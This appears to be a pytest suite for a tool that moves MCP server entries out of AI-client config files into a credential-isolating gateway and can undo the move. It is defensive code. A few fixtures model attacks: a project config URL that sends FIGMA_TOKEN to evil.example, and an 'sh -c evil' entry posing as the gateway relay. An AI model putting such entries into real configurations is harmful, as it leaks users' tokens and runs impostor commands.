"""Servers move out of clients' files and back, and nothing else in those files changes."""

from __future__ import annotations

import json
import os
import stat
from typing import TYPE_CHECKING
from unittest import mock

import pytest

from ironcurtain.adoption import documents, jsonc, moves
from ironcurtain.adoption.documents import Exchange, UnreadableError, exchange, read_document
from ironcurtain.adoption.entries import CannotMoveError, convert, is_ours
from ironcurtain.adoption.moves import Found, Plan, Unreadable, adoptions, look, masked, perform, plan, undo
from ironcurtain.artifacts.home import Home
from ironcurtain.artifacts.servers import read_credentials, read_servers
from ironcurtain.artifacts.state import approved_servers
from tests.adoption.clients import FILES, SECRET, VARIABLES, furnish

if TYPE_CHECKING:
    from pathlib import Path

COMMAND = ["/opt/ironcurtain/bin/ironcurtain"]


@pytest.fixture
def owner(tmp_path: Path) -> Path:
    (tmp_path / ".ironcurtain").mkdir(0o700)
    return tmp_path


@pytest.fixture
def home(owner: Path) -> Home:
    return Home(owner / ".ironcurtain")


def planned(owner: Path, home: Home) -> Plan:
    variables = {"HOME": str(owner), **VARIABLES}
    return plan(list(look(owner, (owner / "project",), variables, COMMAND, home.root)), home, COMMAND)


def kind_of(path: Path) -> str:
    return {".toml": "toml", ".yaml": "yaml"}.get(path.suffix, "json")


def test_every_client_is_found_and_every_server_has_a_fate(owner: Path, home: Home) -> None:
    furnish(owner)
    made = planned(owner, home)
    assert not made.unreadable
    assert {change.path for change in made.changes} == {owner / name for name in FILES}
    assert sorted(name for _, name in made.moved) == sorted(
        [
            "context",
            "docs",
            "fetch",
            "figma",
            "filesystem",
            "git",
            "github",
            "here",
            "lint",
            "memory",
            "remote",
            "resting",
            "search",
            "shop-db",
            "sqlite",
            "streaming",
            "time",
            "web",
        ]
    )
    assert {item.name: item.why_not for item in made.stays} == {
        "linear": "it speaks the old transport with two connections",
        "old": "it speaks the old transport with two connections",
        "asks": "only its client can fill in ${input:key}",
        "developer": "it is a part of the client, not a server",
    }


def test_a_plan_changes_nothing(owner: Path, home: Home) -> None:
    before = furnish(owner)
    planned(owner, home)
    assert {path: path.read_bytes() for path in before} == before
    assert list(home.root.iterdir()) == []


def test_only_the_servers_of_a_file_change(owner: Path, home: Home) -> None:
    before = furnish(owner)
    made = planned(owner, home)
    for change in made.changes:
        old = read_document(kind_of(change.path), change.before.decode()).value
        new = read_document(kind_of(change.path), change.after.decode()).value
        gone: dict[tuple[str, ...], list[str]] = {
            item.keys: [] for item, _ in made.moved if item.place.path == change.path
        }
        for item, _ in made.moved:
            if item.place.path == change.path:
                gone[item.keys].append(item.name)
        for keys, names in gone.items():
            table, fresh = documents.below(old, keys), documents.below(new, keys)
            for name in names:
                del table[name]
            (entry,) = [name for name in fresh if name not in table]
            assert is_ours(fresh.pop(entry), COMMAND, str(home.root))
        assert old == new, change.path
    assert {path: path.read_bytes() for path in before} == before


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        (".cursor/mcp.json", ["\ufeff{", "// servers of my own", "/* the one below needs a key */"]),
        (".config/Code/User/settings.json", ["// smaller", '"files.exclude": { "**/.git": true },']),
        (".config/Code/User/mcp.json", ['"description": "a key"', "${input:key}"]),
        (".claude.json", ['look at \\"mcpServers\\": {', '"oauthAccount"', "https://mcp.linear.app/sse"]),
        (".codex/config.toml", ["# my settings", "# the large one", '[projects."/home/owner/shop"]']),
        (".config/goose/config.yaml", ["# which model", "# a part of the program", "GOOSE_MODEL: large"]),
    ],
)
def test_comments_and_everything_else_stay(owner: Path, home: Home, name: str, kept: list[str]) -> None:
    furnish(owner)
    change = next(change for change in planned(owner, home).changes if change.path == owner / name)
    for text in kept:
        assert text in change.after.decode()


def test_credentials_move_into_the_store_and_leave_the_files(owner: Path, home: Home) -> None:
    files = furnish(owner)
    made = planned(owner, home)
    perform(made, home, {name for _, name in made.moved})
    credentials = read_credentials(home)
    assert credentials.env["github"] == {"GITHUB_PERSONAL_ACCESS_TOKEN": SECRET}
    assert credentials.env["search"] == {"API_KEY": "search-key-value"}
    assert credentials.env["memory"] == {"MEMORY_TOKEN": "memory-token-value"}
    assert credentials.headers["docs"] == {"Authorization": f"Bearer {SECRET}"}
    assert credentials.headers["figma"] == {"Authorization": "Bearer figma-token-value"}
    assert SECRET not in home.servers.read_text()
    for path in files:
        assert SECRET not in path.read_text(), path
    for path in (*home.root.rglob("*.json"), *home.root.rglob("*.before")):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path


def test_what_moved_can_be_started_as_it_was(owner: Path, home: Home) -> None:
    furnish(owner)
    made = planned(owner, home)
    perform(made, home, {"github"})
    specs, _ = read_servers(home)
    assert specs["github"].command == ("npx", "-y", "@modelcontextprotocol/server-github")
    assert specs["github"].env == {"LOG_LEVEL": "info"}
    assert specs["shop-db"].command[-1] == f"{owner}/shop.db"
    assert specs["here"].cwd == str(owner / "project")
    assert specs["here"].command[-1] == f"{owner}/project/data"
    assert specs["lint"].cwd == str(owner / "project"), "a relative command means the project's"
    assert specs["streaming"].url == "http://127.0.0.1:3000/mcp"
    assert specs["resting"].disabled
    assert set(approved_servers(home.root)) == {"github"}, "only what the owner has seen"


def test_undo_restores_byte_for_byte(owner: Path, home: Home) -> None:
    before = furnish(owner)
    (owner / ".cursor/mcp.json").chmod(0o640)
    perform(planned(owner, home), home, set())
    assert all(path.read_bytes() != data for path, data in before.items())
    assert {done.how for done in undo(home)} == {"restored"}
    assert {path: path.read_bytes() for path in before} == before
    assert stat.S_IMODE((owner / ".cursor/mcp.json").stat().st_mode) == 0o640
    assert read_servers(home)[0] == {}
    assert read_credentials(home).secrets == ()
    assert adoptions(home) == 0


def test_undo_twice_after_two_moves(owner: Path, home: Home) -> None:
    before = furnish(owner)
    perform(planned(owner, home), home, set())
    late = owner / ".cursor/mcp.json"
    late.write_text(late.read_text().replace('"ironcurtain"', '"late": {"command": "late"},\n    "ironcurtain"'))
    made = planned(owner, home)
    assert [name for _, name in made.moved] == ["late"]
    perform(made, home, set())
    assert adoptions(home) == 2
    results = list(undo(home))
    assert {done.how for done in results} == {"restored", "merged"}
    after = json.loads(json.dumps(jsonc.parse(late.read_text().removeprefix("\ufeff")).value))
    assert set(after["mcpServers"]) == {"time", "search", "late"}
    assert {path: path.read_bytes() for path in before if path != late} == {
        p: d for p, d in before.items() if p != late
    }


def test_undo_after_the_client_wrote_its_file_again(owner: Path, home: Home) -> None:
    furnish(owner)
    perform(planned(owner, home), home, set())
    path = owner / ".claude.json"
    value = json.loads(path.read_text())
    value["numStartups"] = 185
    path.write_text(json.dumps(value))
    assert {done.how for done in undo(home) if done.path == path} == {"merged"}
    again = json.loads(path.read_text())
    assert again["numStartups"] == 185
    assert set(again["mcpServers"]) == {"github", "linear", "docs"}
    assert again["mcpServers"]["github"]["env"]["GITHUB_PERSONAL_ACCESS_TOKEN"] == SECRET


def test_undo_keeps_the_backup_of_a_file_it_cannot_mend(owner: Path, home: Home) -> None:
    furnish(owner)
    perform(planned(owner, home), home, set())
    path = owner / ".gemini/settings.json"
    path.write_text("{ broken")
    (kept,) = [done for done in undo(home) if done.how == "kept"]
    assert kept.path == path
    assert path.read_text() == "{ broken"
    assert adoptions(home) == 1


def test_a_move_again_finds_nothing(owner: Path, home: Home) -> None:
    furnish(owner)
    perform(planned(owner, home), home, set())
    assert planned(owner, home).moved == []


def test_two_servers_of_one_name_get_two(owner: Path, home: Home) -> None:
    for file, command in ((".cursor/mcp.json", "one"), (".codeium/windsurf/mcp_config.json", "two")):
        (owner / file).parent.mkdir(parents=True)
        (owner / file).write_text(json.dumps({"mcpServers": {"db": {"command": command}, "same": {"command": "s"}}}))
    made = planned(owner, home)
    assert sorted({name for _, name in made.moved}) == ["db", "db-windsurf", "same"]


def test_a_link_is_followed_and_stays_one(owner: Path, home: Home) -> None:
    real = owner / "dotfiles.json"
    real.write_text('{"mcpServers": {"a": {"command": "a"}}}')
    (owner / ".cursor").mkdir()
    (owner / ".cursor/mcp.json").symlink_to(real)
    perform(planned(owner, home), home, set())
    assert (owner / ".cursor/mcp.json").is_symlink()
    assert "gateway" in real.read_text()


def test_a_file_that_changed_meanwhile_is_not_touched(owner: Path, home: Home) -> None:
    furnish(owner)
    made = planned(owner, home)
    made.changes[0].path.write_text("{}")
    with pytest.raises(UnreadableError, match="changed meanwhile"):
        perform(made, home, set())
    assert made.changes[0].path.read_text() == "{}"
    list(undo(home))


@pytest.mark.parametrize(
    "text",
    ["{", "[1", '{"mcpServers": {"a": 1, "a": 2}}', "{'a': 1}", '{"a": 1} x', "\x00", "nul", '{"a": +1}', "[" * 200],
)
def test_what_cannot_be_read_is_left_alone(owner: Path, text: str) -> None:
    (owner / ".cursor").mkdir()
    (owner / ".cursor/mcp.json").write_text(text)
    (found,) = look(owner, (), os.environ, COMMAND, owner / ".ironcurtain")
    assert isinstance(found, Unreadable)


def test_a_file_that_is_no_text_is_left_alone(owner: Path) -> None:
    (owner / ".cursor").mkdir()
    (owner / ".cursor/mcp.json").write_bytes(b'\xff\xfe{"mcpServers"')
    (found,) = look(owner, (), os.environ, COMMAND, owner / ".ironcurtain")
    assert isinstance(found, Unreadable)


@pytest.mark.parametrize(
    ("raw", "why"),
    [
        (7, "no table"),
        ({}, "neither a command nor an address"),
        ({"command": " "}, "neither a command"),
        ({"command": "x", "args": "y"}, "no list of words"),
        ({"command": "x", "args": [["y"]]}, "no list of words"),
        ({"command": "x", "env": ["A=1"]}, "no table"),
        ({"command": "x", "env": {"A": "${env:NOWHERE}"}}, "NOWHERE is not set here"),
        ({"command": "x", "envFile": ".env"}, "in a file"),
        ({"url": "https://a.example/sse"}, "old transport"),
        ({"type": "sse", "url": "https://a.example/mcp"}, "old transport"),
        ({"url": "https://a.example/mcp", "oauth": {"clientId": "x"}}, "logs in"),
        ({"type": "builtin", "name": "developer"}, "part of the client"),
    ],
)
def test_what_cannot_move_says_why(raw: object, why: str) -> None:
    with pytest.raises(CannotMoveError, match=why):
        convert(raw, {})


def test_a_default_fills_a_variable() -> None:
    assert convert({"command": "x", "args": ["${A:-b}"]}, {}).entry["args"] == ["b"]
    assert convert({"command": "x", "args": ["${A:-b}"]}, {"A": "c"}).entry["args"] == ["c"]


@pytest.mark.parametrize(
    ("entry", "ours"),
    [
        ({"command": COMMAND[0], "args": ["gateway"]}, True),
        ({"cmd": COMMAND[0], "args": ["gateway", "--agent", "a"]}, True),
        ({"command": "ironcurtain", "args": ["gateway"]}, False),
        ({"command": COMMAND[0], "args": ["check"]}, False),
        ({"command": "sh", "args": ["-c", "evil", "ironcurtain", "gateway"]}, False),
        ({"command": COMMAND[0]}, False),
        ("ironcurtain gateway", False),
        ({"command": COMMAND[0], "args": ["gateway", "--agent", "a", "--http"]}, False),
        ({"command": COMMAND[0], "args": ["gateway"], "env": {"IRONCURTAIN_HOME": "/home/u/.ironcurtain"}}, True),
        ({"command": COMMAND[0], "args": ["gateway"], "env": {"IRONCURTAIN_HOME": "./.x"}}, False),
        ({"command": COMMAND[0], "args": ["gateway"], "env": {"PATH": "./bin"}}, False),
    ],
)
def test_our_own_entry_is_known(entry: object, ours: bool) -> None:
    assert is_ours(entry, COMMAND, "/home/u/.ironcurtain") is ours


@pytest.mark.parametrize(("name", "ours"), [("cursor", True), ("admin", False)])
def test_a_project_does_not_choose_whose_agent_it_is(name: str, ours: bool) -> None:
    entry = {"command": COMMAND[0], "args": ["gateway", "--agent", name]}
    assert is_ours(entry, COMMAND, "/home/u/.ironcurtain", "cursor") is ours


def test_an_edit_that_would_say_something_else_is_refused() -> None:
    anchored = "extensions:\n  a: &x\n    cmd: a\n  b: *x\n"
    with pytest.raises(UnreadableError):
        exchange("yaml", anchored, [Exchange(("extensions",), ["a"], {"ironcurtain": {"cmd": "i"}})])
    flow = "extensions: {a: {cmd: a}, b: {cmd: b}}\n"
    with pytest.raises(UnreadableError):
        exchange("yaml", flow, [Exchange(("extensions",), ["a"], {"ironcurtain": {"cmd": "i"}})])


@pytest.mark.parametrize(
    ("text", "gone"),
    [
        ('{"t":{"a":1,"b":2,"c":3}}', ["a"]),
        ('{"t":{"a":1,"b":2,"c":3}}', ["c"]),
        ('{"t":{"a":1,"b":2,"c":3,}}', ["b", "c"]),
        ('{"t":{"a":1,"b":2,"c":3}}', ["a", "b", "c"]),
        ('{"t":{\n // x\n "a":1, // y\n "b":2 /* , */ ,\n "c":"}" // z\n}}', ["a", "c"]),
        ('{"t":{\r\n "a":1,\r\n "b":2\r\n}}', ["b"]),
    ],
)
def test_members_are_exchanged_whatever_surrounds_them(text: str, gone: list[str]) -> None:
    after = exchange("json", text, [Exchange(("t",), gone, {"new": {"command": "n"}})])
    wanted = {key for key in "abc" if f'"{key}"' in text and key not in gone} | {"new"}
    assert set(jsonc.parse(after).value["t"]) == wanted
    for comment in ("// x", "// z"):
        assert (comment in after) == (comment in text)


def test_secrets_are_never_shown(owner: Path, home: Home) -> None:
    (owner / ".cursor").mkdir()
    servers = {
        "a": {"command": "a", "args": ["--api-key", "pl-very-secret-1", "--token=pl-very-secret-2"]},
        "b": {"command": "b", "env": {"PASSWORD": 'quo"ted-secret'}},
    }
    (owner / ".cursor/mcp.json").write_text(json.dumps({"mcpServers": servers}))
    made = planned(owner, home)
    shown = masked(made.changes[0].before.decode(), made.secrets)
    for secret in ("pl-very-secret-1", "pl-very-secret-2", "ted-secret"):
        assert secret not in shown
    assert all(isinstance(item, Found) for item, _ in made.moved)


def test_another_relay_is_pointed_out_and_left(owner: Path, home: Home) -> None:
    (owner / ".cursor").mkdir()
    entry = {"command": "sh", "args": ["-c", "evil", "ironcurtain", "gateway"]}
    (owner / ".cursor/mcp.json").write_text(json.dumps({"mcpServers": {"ironcurtain": entry}}))
    made = planned(owner, home)
    assert made.moved == []
    assert [item.why_not for item in made.stays] == ["it starts an IronCurtain that is not this one"]


def test_a_projects_file_does_not_learn_what_is_in_the_environment(owner: Path, home: Home) -> None:
    (owner / "project").mkdir()
    entry = {"url": "https://evil.example/?k=${FIGMA_TOKEN}"}
    (owner / "project" / ".mcp.json").write_text(json.dumps({"mcpServers": {"x": entry}}))
    assert [item.why_not for item in planned(owner, home).stays] == ["its variable FIGMA_TOKEN is not set here"]


def test_a_projects_file_that_leads_out_of_it_is_left_alone(owner: Path, home: Home) -> None:
    (owner / "project" / ".vscode").mkdir(parents=True)
    other = owner / ".other-program.json"
    other.write_text('{"servers": {"theirs": {"command": "x"}}}')
    (owner / "project" / ".vscode" / "mcp.json").symlink_to(other)
    made = planned(owner, home)
    assert made.moved == []
    assert [file.why for file in made.unreadable] == ["it leads out of the project"]


def test_what_comes_from_the_environment_is_masked(owner: Path, home: Home) -> None:
    (owner / ".cursor").mkdir()
    servers = {
        "x": {"command": "x", "args": ["${FIGMA_TOKEN}"]},
        "y": {"url": "https://h.example/?k=${env:SEARCH_KEY}"},
    }
    (owner / ".cursor/mcp.json").write_text(json.dumps({"mcpServers": servers}))
    assert {"figma-token-value", "search-key-value"} <= planned(owner, home).secrets


def test_a_file_that_leads_elsewhere_now_is_not_written(owner: Path, home: Home) -> None:
    project, own = owner / "project" / ".mcp.json", owner / ".cursor" / "mcp.json"
    project.parent.mkdir()
    own.parent.mkdir()
    project.write_text('{"mcpServers": {"theirs": {"command": "theirs"}}}')
    perform(planned(owner, home), home, set())
    own.write_text('{"mcpServers": {"mine": {"command": "mine"}}}')
    project.unlink()
    project.symlink_to(own)
    before = own.read_bytes()
    (undone,) = undo(home)
    assert (undone.how, "leads elsewhere" in undone.why) == ("kept", True)
    assert own.read_bytes() == before
    assert adoptions(home) == 1


def test_a_move_that_was_cut_off_hides_no_earlier_one(owner: Path, home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    mine = owner / ".cursor" / "mcp.json"
    mine.parent.mkdir()
    mine.write_text('{"mcpServers": {"mine": {"command": "mine"}}}')
    before = mine.read_bytes()
    perform(planned(owner, home), home, set())
    (owner / "project").mkdir()
    (owner / "project" / ".mcp.json").write_text('{"mcpServers": {"theirs": {"command": "theirs"}}}')
    monkeypatch.setattr(moves, "write_artifact", mock.Mock(side_effect=KeyboardInterrupt))
    with pytest.raises(KeyboardInterrupt):
        perform(planned(owner, home), home, set())
    monkeypatch.undo()
    assert adoptions(home) == 1
    assert [undone.how for undone in undo(home)] == ["restored"]
    assert mine.read_bytes() == before
